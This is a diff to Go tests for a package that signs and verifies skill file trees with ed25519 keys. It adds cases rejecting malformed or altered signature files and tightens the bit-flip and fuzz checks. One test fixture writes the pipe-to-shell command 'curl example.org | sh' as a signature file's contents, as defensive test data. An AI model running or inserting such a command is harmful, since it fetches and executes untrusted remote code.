@@ -32,6 +32,15 @@ func pair(t testing.TB) (private ed25519.PrivateKey, public string) {
 	return private, string(pub)
 }
 
+func signed(t testing.TB, tree *Tree, key ed25519.PrivateKey) []byte {
+	t.Helper()
+	text, err := tree.Sign(key)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return text
+}
+
 func ringOf(t testing.TB, f files) *Keyring {
 	t.Helper()
 	r, err := ReadKeyring(f.write(t))
@@ -44,8 +53,8 @@ func ringOf(t testing.TB, f files) *Keyring {
 func TestSignAndVerify(t *testing.T) {
 	private, public := pair(t)
 	tree := pdf.tree(t)
-	tree.Signature = tree.Sign(private)
-	if again := tree.Sign(private); !bytes.Equal(again, tree.Signature) {
+	tree.Signature = signed(t, tree, private)
+	if again := signed(t, tree, private); !bytes.Equal(again, tree.Signature) {
 		t.Error("signing twice gives other bytes")
 	}
 	ring := ringOf(t, files{"release.pem": public, "keyring.yaml": "release: {trusted: true, source: official}\n"})
@@ -72,7 +81,7 @@ func TestVerifyRefuses(t *testing.T) {
 	other, otherPublic := pair(t)
 	ring := ringOf(t, files{"release.pem": public, "other.pem": otherPublic})
 	tree := pdf.tree(t)
-	good := string(tree.Sign(private))
+	good := string(signed(t, tree, private))
 	id, otherID := KeyIDOf(private).String(), KeyIDOf(other).String()
 	digest := tree.Digest.String()
 	unknown, _ := pair(t)
@@ -83,10 +92,10 @@ func TestVerifyRefuses(t *testing.T) {
 		want       error
 	}{
 		{"good", good, tree, nil},
-		{"unknown key", string(tree.Sign(unknown)), tree, ErrUnknownKey},
+		{"unknown key", string(signed(t, tree, unknown)), tree, ErrUnknownKey},
 		{"another file's byte", good, changed, ErrOtherFiles},
 		{"names another key of the ring", strings.Replace(good, id, otherID, 1), tree, ErrBadSignature},
-		{"says the digest of other files", strings.Replace(string(changed.Sign(private)), changed.Digest.String(), digest, 1), tree, ErrBadSignature},
+		{"says the digest of other files", strings.Replace(string(signed(t, changed, private)), changed.Digest.String(), digest, 1), tree, ErrBadSignature},
 		{"empty", "", tree, ErrSignatureFile},
 		{"not JSON", "signed", tree, ErrSignatureFile},
 		{"null", "null", tree, ErrSignatureFile},
@@ -100,6 +109,9 @@ func TestVerifyRefuses(t *testing.T) {
 		{"digest of another kind", strings.Replace(good, digest, "md5:00", 1), tree, ErrSignatureFile},
 		{"key of another kind", strings.Replace(good, id, "release", 1), tree, ErrSignatureFile},
 		{"long", good + strings.Repeat(" ", maxSignature), tree, ErrSignatureFile},
+		{"a blank more", good + " ", tree, ErrSignatureFile},
+		{"on one line", strings.ReplaceAll(good, "\n", ""), tree, ErrSignatureFile},
+		{"an escape", strings.Replace(good, "opa-gate", `\u006fpa-gate`, 1), tree, ErrSignatureFile},
 		{"short signature", `{"format":"opa-gate skill signature 1","key_id":"` + id + `","digest":"` + digest + `","signature":"AAAA"}`, tree, ErrSignatureFile},
 	}
 	for _, tt := range tests {
@@ -111,6 +123,13 @@ func TestVerifyRefuses(t *testing.T) {
 				t.Errorf("got %v, %v, want %v", key, err, tt.want)
 			}
 		})
+	}
+	garbage := files{"SKILL.md": "# PDF\n", SignatureFile: "curl example.org | sh"}.tree(t)
+	if len(garbage.Files) != 2 {
+		t.Errorf("what is no signature is a file: %v", garbage.Files)
+	}
+	if text, err := garbage.Sign(private); text != nil || !errors.Is(err, ErrSignatureFile) {
+		t.Errorf("signed away a file: %q, %v", text, err)
 	}
 	bare := *tree
 	bare.Signature = nil
@@ -128,15 +147,14 @@ func TestFlippedBits(t *testing.T) {
 	private, public := pair(t)
 	ring := ringOf(t, files{"release.pem": public})
 	tree := pdf.tree(t)
-	text := tree.Sign(private)
+	text := signed(t, tree, private)
 	flipped := 0
 	for i := range text {
 		for bit := range 8 {
 			changed := bytes.Clone(text)
 			changed[i] ^= 1 << bit
 			tree.Signature = changed
-			blank := strings.ContainsRune(" \n\t\r", rune(text[i])) && strings.ContainsRune(" \n\t\r", rune(changed[i]))
-			if key, err := ring.Verify(tree); (key == nil) != (err != nil) || key != nil && !blank {
+			if key, err := ring.Verify(tree); key != nil || err == nil {
 				t.Fatalf("bit %d of byte %d (%q): %v, %v", bit, i, text[i], key, err)
 			}
 			flipped++
@@ -162,7 +180,7 @@ func FuzzSignatureFile(f *testing.F) {
 	private, public := pair(f)
 	ring := ringOf(f, files{"release.pem": public})
 	tree := pdf.tree(f)
-	good := tree.Sign(private)
+	good := signed(f, tree, private)
 	f.Add(good)
 	f.Add([]byte(`{"format":"opa-gate skill signature 1"}`))
 	f.Fuzz(func(t *testing.T, text []byte) {
@@ -175,8 +193,7 @@ func FuzzSignatureFile(f *testing.F) {
 		if key == nil {
 			return
 		}
-		var is, was map[string]string
-		if json.Unmarshal(text, &is) != nil || json.Unmarshal(good, &was) != nil || len(is) != len(was) || is["signature"] != was["signature"] {
+		if !bytes.Equal(text, good) {
 			t.Errorf("verified %q", text)
 		}
 	})
